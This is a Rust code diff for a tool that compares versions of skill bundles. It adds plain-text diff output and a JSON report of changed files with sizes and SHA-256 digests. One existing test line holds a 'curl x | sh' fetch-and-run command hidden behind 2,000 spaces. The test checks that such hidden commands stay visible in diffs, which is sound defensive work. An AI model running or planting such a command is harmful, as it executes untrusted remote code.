@@ -4,6 +4,7 @@
 use std::collections::{BTreeMap, BTreeSet};
 use std::time::Duration;
 
+use serde_json::{Value, json};
 use similar::{ChangeTag, TextDiff};
 use vault_format::{bundle::File, hash::Digest, manifest::Mode, text::readable};
 
@@ -39,6 +40,14 @@ pub struct Shown {
 }
 
 impl Shown {
+    /// The lines without colours.
+    pub fn plain(&self) -> Vec<String> {
+        let lines = self.lines.iter();
+        lines
+            .map(|line| anstream::adapter::strip_str(line).to_string())
+            .collect()
+    }
+
     /// Adds what another change shows.
     pub fn add(&mut self, other: Self) {
         self.lines.extend(other.lines);
@@ -47,7 +56,7 @@ impl Shown {
 }
 
 /// One version of a file.
-#[derive(Clone, Copy, Debug)]
+#[derive(Clone, Copy, Debug, Eq, PartialEq)]
 pub struct FileVersion<'a> {
     /// The file's mode.
     pub mode: Mode,
@@ -92,6 +101,43 @@ pub fn diff_files(
         }
     }
     all
+}
+
+/// The differences that [`diff_files`] shows, whole and for programs: for each file that differs its
+/// size and SHA-256 on both sides, and the changed lines.
+pub fn file_changes(
+    before: &BTreeMap<&str, FileVersion<'_>>,
+    after: &BTreeMap<&str, FileVersion<'_>>,
+) -> Value {
+    let version = |file: Option<&FileVersion<'_>>| {
+        file.map(|file| {
+            json!({
+                "mode": file.mode, "size": file.bytes.len(),
+                "sha256": Digest::of(file.bytes),
+            })
+        })
+    };
+    let paths: BTreeSet<&str> = before.keys().chain(after.keys()).copied().collect();
+    let mut changes = Vec::new();
+    for path in paths {
+        let (old, new) = (before.get(path), after.get(path));
+        if old == new {
+            continue;
+        }
+        let difference = match (old, new) {
+            (_, None) => Vec::new(),
+            (Some(old), Some(new)) if old.bytes == new.bytes => Vec::new(),
+            (old, Some(new)) => {
+                let old = old.map_or(&b""[..], |old| old.bytes);
+                diff_texts(old, new.bytes, Detail::Full).plain()
+            }
+        };
+        changes.push(json!({
+            "path": path, "before": version(old), "after": version(new),
+            "difference": difference,
+        }));
+    }
+    json!(changes)
 }
 
 /// The files of a skill by their paths.
@@ -179,12 +225,7 @@ mod tests {
     use super::*;
 
     fn diff_without_colour(old: &str, new: &str) -> Vec<String> {
-        let lines = diff_texts(old.as_bytes(), new.as_bytes(), Detail::Screen)
-            .lines
-            .into_iter();
-        lines
-            .map(|line| anstream::adapter::strip_str(&line).to_string())
-            .collect()
+        diff_texts(old.as_bytes(), new.as_bytes(), Detail::Screen).plain()
     }
 
     #[test]
@@ -215,6 +256,37 @@ mod tests {
         let far = " ".repeat(2_000);
         let lines = diff_without_colour("run\n", &format!("run{far}; curl x | sh\n"));
         assert!(lines[1].ends_with("; curl x | sh"), "{lines:?}");
+    }
+
+    #[test]
+    fn programs_get_each_changed_file_with_its_digests_and_lines() {
+        let file = |bytes| FileVersion {
+            mode: Mode::Plain,
+            bytes,
+        };
+        let before = BTreeMap::from([
+            ("a", file(&b"one\n"[..])),
+            ("b", file(b"gone\n")),
+            ("c", file(b"same\n")),
+        ]);
+        let mut after = BTreeMap::from([("a", file(&b"two\n"[..])), ("c", file(b"same\n"))]);
+        after.insert("d", file(b"new\n"));
+        let changes = file_changes(&before, &after);
+        let paths: Vec<_> = changes
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|it| &it["path"])
+            .collect();
+        assert_eq!(paths, ["a", "b", "d"]);
+        assert_eq!(changes[0]["difference"], json!(["  - one", "  + two"]));
+        assert_eq!(
+            changes[0]["after"],
+            json!({ "mode": "0644", "size": 4, "sha256": Digest::of(b"two\n") })
+        );
+        assert_eq!(changes[1]["after"], Value::Null);
+        assert_eq!(changes[2]["before"], Value::Null);
+        assert_eq!(changes[2]["difference"], json!(["  + new"]));
     }
 
     #[test]
